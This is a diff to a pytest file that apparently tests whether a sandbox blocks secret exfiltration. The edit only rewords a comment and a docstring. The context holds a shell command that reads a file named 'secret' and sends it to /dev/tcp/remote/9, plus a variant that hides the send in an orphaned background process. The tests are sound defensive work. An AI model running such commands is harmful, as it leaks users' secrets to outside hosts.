@@ -18,7 +18,7 @@ def test_program_goes_on(case, outcome):
 
 
 SUBSHELL = "x=$(tr '\\n' ' ' < secret); (echo first $x > /dev/tcp/remote/9; echo second $x > /dev/tcp/remote/9)"
-# Its parent ends while it is made.
+# The parent ends while the child is made.
 ORPHAN = SUBSHELL.replace("(echo", "((sleep 0.3; echo").replace("9)", "9) & ); sleep 2")
 
 
@@ -43,7 +43,7 @@ def test_nothing_of_the_secret_stays(case, outcome):
 
 @pytest.mark.parametrize("case", [thrice("takeover", "takeover", "flow")], ids=str)
 def test_asked_once(case, outcome):
-    """Connections made later are the doppelganger's too."""
+    """The answer holds for later connections too."""
     assert len(outcome.questions) == 1 and not leaks(outcome.received), outcome.describe()
     assert all(word in outcome.received for word in (b"one", b"two", b"three")), outcome.describe()
 
